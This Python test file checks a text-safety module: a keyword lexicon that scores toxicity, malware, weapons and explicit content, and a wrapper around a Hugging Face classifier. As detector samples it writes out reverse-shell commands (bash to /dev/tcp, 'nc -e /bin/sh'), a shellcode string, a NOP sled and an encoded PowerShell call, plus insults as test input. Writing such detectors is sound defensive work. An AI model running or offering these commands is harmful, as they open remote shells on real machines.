from __future__ import annotations

import pytest

from mixassets.engine.safety import (
    CATEGORIES,
    HFTextClassifier,
    default_unsafe_labels,
    lexicon_hits,
    lexicon_scores,
)

CALM = (
    "The committee met on Tuesday to discuss the water supply, the compost bays and the date of the autumn show. "
    "Members agreed to buy two more water butts and to repaint the shed before the winter."
)


def test_clean_text_scores_zero_in_every_category():
    assert lexicon_scores(CALM) == dict.fromkeys(CATEGORIES, 0.0)
    assert lexicon_hits(CALM) == []
    assert lexicon_scores("") == dict.fromkeys(CATEGORIES, 0.0)


def test_hits_are_exact_spans_per_category():
    text = "You IDIOT. They found a Key-Logger and msfvenom output; the ghost gun thread was nsfw."
    hits = lexicon_hits(text)
    assert [(cat, text[s:e]) for cat, s, e in hits] == [
        ("toxicity", "IDIOT"),
        ("malware", "Key-Logger"),
        ("malware", "msfvenom"),
        ("weapons", "ghost gun"),
        ("explicit", "nsfw"),
    ]


def test_multi_word_terms_take_any_separator_and_win_over_their_parts():
    text = "what a piece_of  shit, a key-logger, a Key Logger and a keylogger"
    assert [(cat, text[s:e]) for cat, s, e in lexicon_hits(text)] == [
        ("toxicity", "piece_of  shit"),
        ("malware", "key-logger"),
        ("malware", "Key Logger"),
        ("malware", "keylogger"),
    ]
    # Only whole words: an identifier that merely contains a term does not match.
    assert lexicon_hits("my_keylogger_test and keylogger2") == []


def test_word_boundaries_prevent_substring_matches():
    # Lexicon words inside longer words: "scum" in "scumble", "sarin" in "sarinda", "porn" in "porne".
    assert lexicon_hits("A scumble glaze over the sarinda in the porne gallery, says the therapist.") == []
    assert lexicon_hits("scum")


def test_scores_are_weighted_hits_per_thousand_words():
    filler = " ".join(["garden"] * 98)
    scores = lexicon_scores(f"idiot {filler} idiot")  # two hits of weight 1.0 in 100 words
    assert scores["toxicity"] == pytest.approx(20.0)
    assert scores["explicit"] == scores["weapons"] == scores["malware"] == 0.0
    # The same hits in a ten times longer text score ten times lower.
    long = lexicon_scores(f"idiot {' '.join(['garden'] * 998)} idiot")
    assert long["toxicity"] == pytest.approx(2.0)


def test_malware_markers():
    samples = {
        "shellcode": 'buf = "\\x31\\xc0\\x50\\x68\\x2f\\x2f\\x73\\x68\\x68\\x2f\\x62\\x69"',
        "bash reverse shell": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "netcat": "nc -e /bin/sh 10.0.0.1 4444",
        "python reverse shell": "os.dup2(s.fileno(),0); os.dup2(s.fileno(),1)",
        "ransomware": "the ransomware encrypted every share",
    }
    for name, text in samples.items():
        assert lexicon_scores(text)["malware"] > 10.0, name
    # A short hex escape in ordinary code is not shellcode.
    assert lexicon_scores('sep = "\\x1f"; end = "\\x00"')["malware"] == 0.0


def test_default_unsafe_labels():
    assert default_unsafe_labels({0: "LABEL_0", 1: "LABEL_1"}) == ["LABEL_1"]
    assert default_unsafe_labels({0: "non_toxic", 1: "toxic"}) == ["toxic"]
    assert default_unsafe_labels({0: "safe", 1: "unsafe"}) == ["unsafe"]
    assert default_unsafe_labels({0: "neutral", 1: "offensive", 2: "harmful"}) == ["offensive", "harmful"]
    assert default_unsafe_labels({0: "not-harmful", 1: "Toxic"}) == ["Toxic"]
    with pytest.raises(ValueError, match="unsafe_labels"):
        default_unsafe_labels({0: "positive", 1: "negative"})
    with pytest.raises(ValueError, match="unsafe_labels"):
        default_unsafe_labels({0: "LABEL_0", 1: "LABEL_1", 2: "LABEL_2"})


def _tiny_classifier(tmp_path, id2label: dict[int, str], problem_type: str | None = None) -> str:
    import torch
    from transformers import AutoTokenizer, LlamaConfig, LlamaForSequenceClassification

    from training_assets.engine.tiny import make_tiny_model

    base = tmp_path / "base"
    if not base.exists():
        make_tiny_model(str(base))
    config = LlamaConfig.from_pretrained(base)
    config.num_labels = len(id2label)
    config.id2label = id2label
    config.label2id = {v: k for k, v in id2label.items()}
    config.problem_type = problem_type
    with torch.random.fork_rng(devices=[]):
        torch.manual_seed(0)
        model = LlamaForSequenceClassification(config)
    out = tmp_path / f"clf-{len(id2label)}-{problem_type}"
    model.save_pretrained(out)
    AutoTokenizer.from_pretrained(base).save_pretrained(out)
    return str(out)


TEXTS = ["a calm note about the garden", "you idiot", "", "x" * 3000, "the water butts are full"]


def test_classifier_probabilities_shape_range_and_determinism(tmp_path):
    path = _tiny_classifier(tmp_path, {0: "LABEL_0", 1: "LABEL_1"})
    clf = HFTextClassifier(path)
    assert clf.unsafe_labels == ["LABEL_1"]
    probs = clf.unsafe_probability(TEXTS, batch_size=2)
    assert len(probs) == len(TEXTS)
    assert all(0.0 <= p <= 1.0 for p in probs)
    # Batching and padding do not change a text's score, and a second model load gives the same numbers.
    assert probs == pytest.approx(clf.unsafe_probability(TEXTS, batch_size=16), abs=1e-5)
    assert probs == pytest.approx(HFTextClassifier(path).unsafe_probability(TEXTS), abs=1e-5)
    assert clf.unsafe_probability([]) == []
    # Single-label: the unsafe and the safe class share the probability mass.
    safe = HFTextClassifier(path, unsafe_labels=["LABEL_0"]).unsafe_probability(TEXTS)
    assert [a + b for a, b in zip(probs, safe, strict=True)] == pytest.approx([1.0] * len(TEXTS), abs=1e-5)
    with pytest.raises(ValueError, match="batch_size"):
        clf.unsafe_probability(TEXTS, batch_size=0)


def test_classifier_multi_label_and_label_errors(tmp_path):
    labels = {0: "toxic", 1: "severe_toxic", 2: "neutral"}
    path = _tiny_classifier(tmp_path, labels, problem_type="multi_label_classification")
    clf = HFTextClassifier(path)
    assert clf.multi_label and clf.unsafe_labels == ["toxic", "severe_toxic"]
    both = clf.unsafe_probability(TEXTS)
    one = HFTextClassifier(path, unsafe_labels=["toxic"]).unsafe_probability(TEXTS)
    assert all(0.0 <= p <= 1.0 for p in both)
    assert all(b >= o - 1e-6 for b, o in zip(both, one, strict=True))  # max over more labels never drops
    with pytest.raises(ValueError, match="not among"):
        HFTextClassifier(path, unsafe_labels=["hateful"])


def test_classifier_missing_path_is_a_clear_error(tmp_path):
    with pytest.raises(FileNotFoundError, match="not found"):
        HFTextClassifier(str(tmp_path / "no-such-model"))
    (tmp_path / "empty").mkdir()
    with pytest.raises(FileNotFoundError, match=r"config\.json"):
        HFTextClassifier(str(tmp_path / "empty"))


def test_lexicon_prefilter_never_hides_a_match():
    """Where ``may_match`` says no, the lexicon finds nothing: every term and pattern, in odd cases and spacing."""
    import random
    import sys

    import pyarrow as pa

    from mixassets.engine import safety

    # The only non-ASCII character that lowers to an ASCII letter is the Kelvin sign, which RE2 folds with "k".
    assert [c for c in range(sys.maxunicode + 1) if not 0xD800 <= c < 0xE000 and chr(c).lower().isascii()
            and not chr(c).isascii()] == [0x212A]  # fmt: skip
    terms = [t for ts in safety._LEXICON.values() for t, _ in ts if not t.startswith('re"')]
    samples = [
        "\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "nc -e /bin/sh 10.0.0.1 4444",
        "NC\u00a0-lvnp 4444",
        "os.dup2( s.fileno() , 0)",
        "PowerShell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBj",
        "",
        "a calm text about gardens",
        "\u212aill yourself",
        "\u017fhut up",
    ]
    rng = random.Random(0)
    for term in terms:
        words = term.split()
        samples.append(f"x {rng.choice(['-', '_', ' ', '  '])}".join(words))
        samples.append(" ".join(w.upper() if rng.random() < 0.5 else w for w in words) + ".")
        samples.append("pre" + term)
    possible = safety.may_match(pa.array(samples))
    for text, may in zip(samples, possible, strict=True):
        if not may:
            assert safety.lexicon_hits(text) == [], text
            assert set(safety.lexicon_scores(text).values()) == {0.0}
    assert possible[7] is False


def test_pattern_prefilters_never_hide_a_match():
    """Where ``possible_patterns`` rules a regular expression out, it matches nothing: the scores with and
    without the prefilters agree, on texts that hold each pattern, near misses of it, and odd cases."""
    import pyarrow as pa

    from mixassets.engine import safety

    samples = [
        "\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90",
        "bash -i >& /DEV/TCP/10.0.0.1/4444 0>&1",
        "nc -e /bin/sh 10.0.0.1 4444 and NCAT -E /BIN/BASH",
        "NC\u00a0-lvnp 4444",
        "os.dup2( s.fileno() , 0)",
        "PowerShell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBj",
        "\\x90\\x90 only two, /dev/null, nc-e, powershell -h, os.dup2(x)",
        "idiot and a calm text",
        "",
    ]
    possible = safety.possible_patterns(pa.array(samples))
    assert all(len(p) == len(safety._PATTERNS) for p in possible)
    assert not any(possible[7]) and all(any(p) for p in possible[:6])
    for text, patterns in zip(samples, possible, strict=True):
        assert safety.lexicon_scores(text, patterns) == safety.lexicon_scores(text), text
    assert sum(safety.lexicon_scores(t)["malware"] > 0 for t in samples) >= 6


def test_term_precheck_never_hides_a_match(monkeypatch):
    """``_term_matches`` with its check of the lowered words gives what it gives without it: every term whole,
    with its words split by every separator, broken by one, glued to a word or an underscore, in odd cases, and
    next to characters whose lowering changes a token (dotted capital I, final sigma, the Kelvin sign)."""
    import random

    from mixassets.engine import safety

    terms = [t for ts in safety._LEXICON.values() for t, _ in ts if not t.startswith('re"')]
    rng = random.Random(2)
    samples = ["", "a calm text about gardens", "\u0130\u0130 \u212aill yourself", "\u03a3\u0391\u03a3 kill"]
    for term in terms:
        words = term.split()
        for sep in [" ", "-", "_", " - ", "\n", ", ", "x"]:
            samples.append(f"Before {sep.join(words)} after")
        samples.append("_" + " ".join(words))
        samples.append(" ".join(words) + "_")
        samples.append(rng.choice(["\u0130", "\u03a3", "\u00e9"]) + " " + " ".join(w.upper() for w in words) + ".")
    found = [safety._term_matches(t) for t in samples]
    monkeypatch.setattr(safety, "_may_start_a_term", lambda text: True)
    assert found == [safety._term_matches(t) for t in samples]
    assert sum(map(bool, found)) > len(terms)  # and the samples do match
